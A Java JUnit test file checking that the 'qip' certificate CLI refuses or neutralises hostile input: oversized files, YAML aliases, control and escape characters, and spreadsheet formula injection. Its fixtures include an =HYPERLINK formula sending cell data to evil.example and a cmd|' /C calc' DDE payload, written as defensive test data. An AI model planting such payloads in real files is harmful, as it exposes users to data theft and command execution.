package org.qipathways.samples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.qipathways.programme.Programme;

/**
 * The input cases of issue 16's table, as a user (or an attacker) meets them on the command line:
 * each is refused with its place and exit code 2, no stack trace, no partial output, nothing raw
 * from the input on the terminal; or, where the input is fine (a byte-order mark), accepted.
 */
class HostileInputCliTest {

    @TempDir
    Path dir;

    private static final String HEADER = "learner_id,date,type,item,result\n";

    private Path write(String name, String text) throws IOException {
        return Files.writeString(dir.resolve(name), text, StandardCharsets.UTF_8);
    }

    /** The bundled reference programme's file, as written. */
    private static String referenceYaml() {
        try (var in = Programme.class.getResourceAsStream("reference-programme.yaml")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** {@code qip args} in a JVM of its own with a 256 MiB heap, as on a small server: exit code and all output. */
    private QipRun smallHeap(String... args) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx256m", "-cp", System.getProperty("java.class.path"), Qip.class.getName()));
        command.addAll(List.of(args));
        Path log = dir.resolve("child-" + System.nanoTime() + ".log");
        Process p = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(log.toFile()).start();
        assertThat(p.waitFor(120, TimeUnit.SECONDS)).as("the child finished").isTrue();
        return new QipRun(p.exitValue(), "", Files.readString(log));
    }

    @Test
    void aFiftyMegabyteCertificateGivenToVerifyIsRefusedWithTheLimitNamed() throws Exception {
        Path big = dir.resolve("big.json");
        try (OutputStream out = Files.newOutputStream(big)) {
            out.write("{\"certificate\": \"".getBytes(StandardCharsets.US_ASCII));
            byte[] chunk = "A".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 50; i++) {
                out.write(chunk);
            }
            out.write("\"}".getBytes(StandardCharsets.US_ASCII));
        }
        Path keys = dir.resolve("keys");
        assertThat(QipRun.qip("keys", "generate", "--out", keys.toString()).exit()).isZero();

        QipRun run = smallHeap("verify", big.toString(), "--key", keys.resolve("issuer-public.pem").toString());

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("qip verify: " + big + " is larger than 1048576 bytes, the limit for a certificate"
                + " file (a signed certificate is a few KB): is it the right file? If it is, raise the limit with"
                + " --max-size BYTES\n");
    }

    @Test
    void aProgrammeWithAHundredMegabyteScalarIsRefusedWithTheLimitNamed() throws Exception {
        Path huge = dir.resolve("huge.yaml");
        try (OutputStream out = Files.newOutputStream(huge)) {
            out.write("code: QIP-BSG\ntitle: ".getBytes(StandardCharsets.US_ASCII));
            byte[] chunk = "x".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 100; i++) {
                out.write(chunk);
            }
        }

        QipRun run = smallHeap("validate", "--programme", huge.toString());

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly(huge + ": the file is larger than 8388608 bytes (8 MiB), the limit"
                        + " for a programme definition: a real programme is a few KB, so check that this is the right file."
                        + " If it is, raise the limit (Programme.load(file, maxBytes); qip: --max-programme-size)",
                "qip validate: 1 problem in " + huge);
    }

    @Test
    void theProgrammeSizeLimitCanBeRaised() throws IOException {
        Path file = write("p.yaml", referenceYaml());

        assertThat(QipRun.qip("validate", "--programme", file.toString(), "--max-programme-size", "1000").exit())
                .isEqualTo(2);
        assertThat(QipRun.qip("validate", "--programme", file.toString(), "--max-programme-size", "10000000").exit())
                .isZero();
    }

    @Test
    void aYamlAliasIsRefusedNotReadAsText() throws IOException {
        String yaml = referenceYaml();
        String firstTierTitle = "    title: Bronze\n";
        assertThat(yaml).contains(firstTierTitle);
        Path file = write("alias.yaml", yaml.replaceFirst("\ntitle: ", "\ntitle: &t ")
                .replace(firstTierTitle, "    title: *t\n"));

        QipRun run = QipRun.qip("validate", "--programme", file.toString());

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).containsPattern(java.util.regex.Pattern.quote(file.toString())
                + ":\\d+:\\d+: tiers\\[0\\]\\.title: is a YAML alias \\(\\*t\\); aliases and anchors are not allowed");
    }

    @Test
    void aSecondYamlDocumentIsRefusedNotIgnored() throws IOException {
        String yaml = referenceYaml();
        Path file = write("two.yaml", yaml + "---\n" + yaml);

        QipRun run = QipRun.qip("validate", "--programme", file.toString());

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err().lines()).containsExactly(file + ":" + (yaml.split("\n").length + 1) + ":1: a second YAML"
                        + " document starts here (after a --- line); a programme file holds one document: remove the ---"
                        + " line and what follows it, or put the second programme in a file of its own",
                "qip validate: 1 problem in " + file);
    }

    @Test
    void aBinaryValueIsRefusedWithFileLineAndColumnAndNoParserInternals() throws IOException {
        Path file = write("binary.yaml", referenceYaml().replaceFirst("\ntitle: ", "\ntitle: !!binary "));

        QipRun run = QipRun.qip("validate", "--programme", file.toString());

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).startsWith(file + ":5:8: title: has the YAML tag !!binary; tags are not allowed")
                .doesNotContain("Jackson", "jackson", "EMBEDDED", "Exception", "\tat ");
    }

    @Test
    void aProgrammeJsonWithAByteOrderMarkIsAccepted() throws IOException {
        Path file = dir.resolve("bom.json");
        Files.write(file, ("\uFEFF" + Programme.reference().toJson()).getBytes(StandardCharsets.UTF_8));

        QipRun run = QipRun.qip("validate", "--programme", file.toString());

        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.out()).startsWith("OK: QIP-BSG");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0000-01-01", "9999-12-31", "1000-01-01"})
    void implausibleDatesAreRefusedAtReadTimeAndCertifyWritesNothing(String date) throws IOException {
        Path events = write("events.csv", HEADER + "L1,2024-01-10,completed,BRZ-ELN,\nL1," + date
                + ",assessed,BRZ-QUIZ,85\n");
        Path keys = dir.resolve("keys");
        assertThat(QipRun.qip("keys", "generate", "--out", keys.toString()).exit()).isZero();
        Path out = dir.resolve("certificates");
        Path register = dir.resolve("register.db");

        QipRun run = QipRun.qip("certify", "--events", events.toString(), "--register", "jdbc:sqlite:" + register,
                "--key", keys.resolve("issuer-private.pem").toString(), "--as-of", "2025-01-01", "--out", out.toString());

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).startsWith(events + ":3: date: '" + date + "' is ")
                .contains(events + ": read 2, accepted 1, rejected 1; nothing written");
        assertThat(out).doesNotExist();
        assertThat(register).doesNotExist();
    }

    @Test
    void theDateRangeCanBeWidenedOnTheCommandLine() throws IOException {
        Path events = write("events.csv", HEADER + "L1,1985-01-10,completed,BRZ-ELN,\n");

        assertThat(QipRun.qip("evaluate", "--events", events.toString(), "--as-of", "2025-01-01").exit()).isEqualTo(2);
        assertThat(QipRun.qip("evaluate", "--events", events.toString(), "--as-of", "2025-01-01",
                "--earliest-date", "1980-01-01").exit()).isZero();
        QipRun reversed = QipRun.qip("evaluate", "--events", events.toString(), "--latest-date", "1980-01-01");
        assertThat(reversed.exit()).isEqualTo(2);
        assertThat(reversed.err()).isEqualTo("qip evaluate: the latest date accepted (1980-01-01) is before the earliest"
                + " (1990-01-01)\n");
    }

    @Test
    void aNulInsideAResultIsRefused() throws IOException {
        Path events = write("events.csv", HEADER + "L1,2024-01-10,revoked,BRONZE,left\u0000\n");

        QipRun run = QipRun.qip("evaluate", "--events", events.toString(), "--as-of", "2025-01-01");

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).startsWith(events + ":2: result: holds the control character U+0000 at character 5;"
                + " control characters are not allowed in any value: remove it");
    }

    @Test
    void invalidUtf8AtLine10003IsReportedWithItsLine() throws IOException {
        Path events = dir.resolve("events.csv");
        try (OutputStream out = Files.newOutputStream(events)) {
            out.write(HEADER.getBytes(StandardCharsets.US_ASCII));
            for (int i = 2; i < 10_003; i++) {
                out.write(("L" + i + ",2024-01-10,completed,BRZ-ELN,\n").getBytes(StandardCharsets.US_ASCII));
            }
            out.write(new byte[] {'L', '1', ',', '2', '0', '2', '4', '-', '0', '1', '-', '1', '0', ',', 'r', 'e', 'v', 'o',
                    'k', 'e', 'd', ',', 'G', 'O', 'L', 'D', ',', 'R', (byte) 0xFC, 'c', 'k', '\n'});
        }

        QipRun run = QipRun.qip("evaluate", "--events", events.toString(), "--as-of", "2025-01-01");

        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).startsWith(events + ":10003: line 10003 is not UTF-8 text (at character 29)");
    }

    @Test
    void controlCharactersInABadLearnerIdNeverReachTheTerminalRaw() throws IOException {
        Path events = write("events.csv", HEADER + "\"L1\u001b[2J\u001b]0;owned\u0007\",2024-01-10,completed,BRZ-ELN,\n"
                + "L 2\u001b[31m,2024-01-10,completed,BRZ-ELN,\n");
        Path learners = write("learners.csv", "learner_id,organisation\nL\u009b1m,RHQ\n");

        for (QipRun run : List.of(QipRun.qip("evaluate", "--events", events.toString()),
                QipRun.qip("evaluate", "--events", events.toString(), "--skip-invalid"),
                QipRun.qip("evaluate", "--events", events.toString(), "--learners", learners.toString()),
                QipRun.qip("evaluate", "--events", dir.resolve("no\u001b[2Jsuch.csv").toString()))) {
            assertThat(run.err().chars().filter(c -> Character.isISOControl(c) && c != '\n')).as(run.err()).isEmpty();
            assertThat(run.out().chars().filter(c -> Character.isISOControl(c) && c != '\n')).isEmpty();
        }
        assertThat(QipRun.qip("evaluate", "--events", events.toString()).err())
                .contains(events + ":2: learner_id: holds the control character U+001B at character 3;");
        assertThat(QipRun.qip("evaluate", "--events", dir.resolve("no\u001b[2Jsuch.csv").toString()).err())
                .contains("no\\u001b[2Jsuch.csv");
    }

    @Test
    void theRejectedRowsFileNeutralisesSpreadsheetFormulas() throws IOException {
        Path events = write("events.csv", HEADER + "L1,2024-01-10,completed,BRZ-ELN,\n"
                + "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",2024-01-10,completed,BRZ-ELN,\n"
                + "L2,2024-01-10,completed,@SUM(A1),\n"
                + "L3,2024-01-10,assessed,BRZ-QUIZ,+1+cmd|' /C calc'!A0\n"
                + "L4,2024-01-10,assessed,BRZ-QUIZ,-2+3\n");

        QipRun run = QipRun.qip("evaluate", "--events", events.toString(), "--as-of", "2025-01-01", "--skip-invalid");

        assertThat(run.exit()).as(run.err()).isZero();
        List<String> rejected = Files.readAllLines(dir.resolve("events.csv.rejected.csv"));
        assertThat(rejected).hasSize(5);
        assertThat(rejected.get(1)).startsWith("\"'=HYPERLINK(");
        assertThat(rejected.get(2)).startsWith("L2,2024-01-10,completed,'@SUM(A1),");
        assertThat(rejected.get(3)).startsWith("L3,2024-01-10,assessed,BRZ-QUIZ,'+1+cmd|' /C calc'!A0,");
        assertThat(rejected.get(4)).startsWith("L4,2024-01-10,assessed,BRZ-QUIZ,'-2+3,");
        for (String line : rejected) {
            for (String cell : line.split(",")) {
                assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
            }
        }
    }

    @Test
    void evaluateNeutralisesFormulasInLabelsFromTheProgramme() throws IOException {
        Path programme = write("p.yaml", referenceYaml().replace("label: Bronze online course and knowledge check",
                "label: \"=HYPERLINK(\\\"http://evil.example\\\",\\\"Bronze\\\")\""));
        Path events = write("events.csv", HEADER + "L1,2024-01-10,completed,BRZ-ELN,\n");

        QipRun run = QipRun.qip("evaluate", "--events", events.toString(), "--programme", programme.toString(),
                "--as-of", "2025-01-01");

        assertThat(run.exit()).as(run.err()).isZero();
        List<String> lines = run.out().lines().toList();
        assertThat(lines.get(1)).startsWith("L1,BRONZE,IN_PROGRESS,,,\"'=HYPERLINK(");
        for (String line : lines) {
            assertThat(line).doesNotContain(",=", ",\"=", ",@", ",+");
        }
    }
}
